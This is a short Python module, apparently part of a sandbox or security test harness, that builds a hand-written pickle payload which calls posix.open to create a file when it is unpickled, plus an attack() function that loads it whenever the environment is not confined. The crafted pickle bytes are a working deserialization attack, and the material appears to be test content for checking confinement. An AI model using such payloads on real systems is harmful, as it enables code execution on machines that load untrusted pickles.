"""Answers with a pickle that writes a file where it is opened."""

FULL = "answers", "total decoding"
JUDGED = "game"
QUICK = True


class Writes:
    def __reduce__(self):
        return (
            os.close,
            (),
        )

    @staticmethod
    def bytes():
        path = HOST["folder"] + "/unpickled"
        return b"cposix\nopen\n(V" + path.encode() + b"\nI65\nI420\ntR."


answer(Writes.bytes, lambda: {"__reduce__": ["posix.open", Writes.bytes()]})


def attack():
    import pickle

    if not confined():
        os.close(pickle.loads(Writes.bytes()))
